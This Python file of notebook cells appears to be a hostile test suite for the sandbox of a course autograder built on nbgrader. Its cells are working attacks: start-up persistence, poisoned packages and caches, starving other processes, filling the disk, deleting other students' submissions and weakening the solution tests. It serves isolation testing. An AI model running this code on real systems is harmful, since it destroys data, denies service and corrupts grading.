# %% IPython start-up: a file that every later kernel runs
import os
for base in ("~/.ipython", os.environ.get("IPYTHONDIR", "~/.ipython"), "/tmp/.ipython", "/etc/ipython"):
    try:
        folder = os.path.expanduser(base) + "/profile_default/startup"
        os.makedirs(folder, exist_ok=True)
        open(folder + "/00.py", "w").write("import time; time.sleep(8)\nprint('__WON__ start-up')\nraise SystemExit\n")
    except OSError:
        pass


# %% IPython configuration: an extension or a line that every later kernel executes
import os
folder = os.path.expanduser("~/.ipython/profile_default")
try:
    os.makedirs(folder, exist_ok=True)
    open(folder + "/ipython_config.py", "w").write("c.InteractiveShellApp.exec_lines = ['print(\"__WON__ config\")', 'import os; os._exit(0)']\n")
except OSError:
    pass


# %% site-packages of the user: usercustomize, sitecustomize and .pth
import os, site, sys
for folder in {site.getusersitepackages(), *(p for p in sys.path if p), os.getcwd()}:
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("usercustomize.py", "sitecustomize.py"):
            open(f"{folder}/{name}", "w").write("print('__WON__ customize')\nimport builtins\nbuiltins.len = None\n")
        open(f"{folder}/hostile.pth", "w").write("import os; os.environ['HOSTILE'] = '1'; print('__WON__ pth')\n")
    except OSError:
        pass


# %% installed packages: the course's helpers and numpy are changed on the disk
import mlp_helpers, numpy, os
for module in (mlp_helpers, numpy):
    folder = os.path.dirname(module.__file__ or next(iter(module.__path__)))
    for name in ("__init__.py", "checks.py", "hostile.py"):
        try:
            open(f"{folder}/{name}", "a").write("\nprint('__WON__ changed package')\n")
        except OSError:
            pass


# %% compiled files: poisoned .pyc beside installed modules
import glob, os, mlp_helpers, json
for module in (mlp_helpers, json):
    folder = os.path.dirname(module.__file__ or next(iter(module.__path__)))
    for path in glob.glob(folder + "/__pycache__/*.pyc"):
        try:
            open(path, "r+b").write(b"\0" * 16)
        except OSError:
            pass


# %% the warm parent: modules, builtins and configuration that a later fork might inherit
import builtins, math, sys, os
import mlp_helpers.checks, numpy
builtins.len = math.sqrt = numpy.sqrt = lambda *args: 0
sys.modules["math"] = None
sys.path.insert(0, "/tmp")
os.environ["PYTHONPATH"] = "/tmp"
# %% [next]
import math
assert math.sqrt(9) == 3 and len([1]) == 1


# %% limits of the parent: lowered for those who come after
import os, resource
for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    for kind, value in ((resource.RLIMIT_CPU, 1), (resource.RLIMIT_NOFILE, 8), (resource.RLIMIT_FSIZE, 0),
                        (resource.RLIMIT_NPROC, 1), (resource.RLIMIT_AS, 1 << 20)):
        try:
            resource.prlimit(pid, kind, (value, value))
        except (OSError, ValueError):
            pass


# %% priority of the parent: nice, scheduling class, input/output class
import ctypes, os
libc = ctypes.CDLL(None)
for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    except OSError:
        pass
    libc.syscall(251, 1, pid, 3 << 13)
for which, who in ((os.PRIO_PGRP, 0), (os.PRIO_USER, os.getuid())):
    try:
        os.setpriority(which, who, 19)
    except OSError:
        pass


# %% processor of the parent: one core for everybody
import os
for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid()}:
    try:
        os.sched_setaffinity(pid, {0})
    except OSError:
        pass


# %% the machine's processor: a detached process that computes through the next student's run
import subprocess, sys, os
for _ in range(8):
    subprocess.Popen([sys.executable, "-c", "while True: pass", "__MARK__"], start_new_session=True)


# %% highest priority for itself: real-time scheduling starves the rest
import os, threading
try:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    print("__WON__ runs in real time")
except OSError:
    pass


# %% matplotlib's configuration: a style that draws nothing, a backend that does not exist
import os, matplotlib
for folder in {matplotlib.get_configdir(), os.getcwd(), os.path.expanduser("~/.config/matplotlib"), "/tmp"}:
    try:
        os.makedirs(folder, exist_ok=True)
        open(f"{folder}/matplotlibrc", "w").write("backend: module://hostile\nlines.linewidth: nonsense\n")
    except OSError:
        pass


# %% matplotlib's font cache: broken
import glob, matplotlib
for path in glob.glob(matplotlib.get_cachedir() + "/*"):
    try:
        open(path, "w").write("[")
    except OSError:
        pass


# %% Jupyter's configuration: a kernel spec and a config that the next kernel uses
import json, os
for base in ("~/.local/share/jupyter", "~/.jupyter", "/tmp/jupyter"):
    try:
        folder = os.path.expanduser(base) + "/kernels/python3"
        os.makedirs(folder, exist_ok=True)
        json.dump({"argv": ["/bin/false"], "display_name": "Python 3", "language": "python"}, open(folder + "/kernel.json", "w"))
    except OSError:
        pass


# %% nbgrader's configuration: found by the grader in the home folder or above
import os
for path in ("~/.jupyter/nbgrader_config.py", "~/nbgrader_config.py", "../../../../nbgrader_config.py"):
    try:
        path = os.path.expanduser(path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write("\nprint('__WON__ config')\nraise SystemExit\n")
    except OSError:
        pass


# %% names in shared folders: a module, a socket and a folder that the next run wants to use
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    for name in ("numpy.py", "math.py", "mlp_helpers.py", "IPython", ".X11-unix", "kernel.json", "01_mini.ipynb"):
        try:
            open(f"{folder}/{name}", "w").write("raise SystemExit")
        except OSError:
            pass


# %% disk left full: files outside that stay
import os
for folder in ("/tmp", "/dev/shm", "/var/tmp", "__OUTSIDE__"):
    try:
        with open(f"{folder}/hostile-outside", "wb", 0) as file:
            for _ in range(2000):
                file.write(b"x" * (1 << 20))
    except OSError:
        pass


# %% semaphores and queues: as many of System V as the machine has, left behind
import ctypes
libc = ctypes.CDLL(None)
for _ in range(40000):
    if libc.semget(0, 1, 0o1666) < 0 or libc.msgget(0, 0o1666) < 0:
        break
# %% [next]
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
if libc.semget(0, 1, 0o666) < 0 and ctypes.get_errno() == errno.ENOSPC:
    print("__WON__ no semaphore is left")


# %% locks left behind: files locked by a process that stays
import fcntl, os
for path in ("__CLASS__/gradebook.db", "../../../gradebook.db"):
    try:
        file = open(path, "r+b")
        if os.fork() == 0:
            fcntl.lockf(file, fcntl.LOCK_EX)
            import time
            time.sleep(300)
    except OSError:
        pass


# %% folders closed: nobody may read or write the class's any more
import os
for path in ("../../..", "../..", "..", ".", "__CLASS__", "__CLASS__/submitted", "__CLASS__/autograded"):
    try:
        os.chmod(path, 0)
    except OSError:
        pass


# %% submissions removed: the next student's is gone
import glob, shutil
for path in glob.glob("../../../submitted/*") + glob.glob("__CLASS__/submitted/*"):
    shutil.rmtree(path, ignore_errors=True)


# %% next student's notebook overwritten: with the hidden tests' answers removed
import glob
for path in glob.glob("../../../submitted/z*/*/*.ipynb") + glob.glob("__CLASS__/submitted/z*/*/*.ipynb"):
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("math.sqrt(x)", "-1"))
    except OSError:
        pass


# %% worked notebook changed: the tests that come after are easier
import glob
for path in glob.glob("../../../../solutions/*/*.ipynb") + glob.glob("__CLASS__/../solutions/*/*.ipynb"):
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("assert root", "assert 0 * root"))
    except OSError:
        pass


# %% process ids used up: so that the next kernel's is a guess
import os
for _ in range(3000):
    try:
        if os.fork() == 0:
            os._exit(0)
        os.wait()
    except OSError:
        break


# %% clock and names of the machine: moved for those who come after
import ctypes, socket, time
libc = ctypes.CDLL(None)
if libc.sethostname(b"hostile", 7) == 0:
    print("the host is now", socket.gethostname())
try:
    time.clock_settime(time.CLOCK_REALTIME, time.time())  # the right time: the machine is to stay as it is
    print("__WON__ may set the clock")
except OSError:
    pass
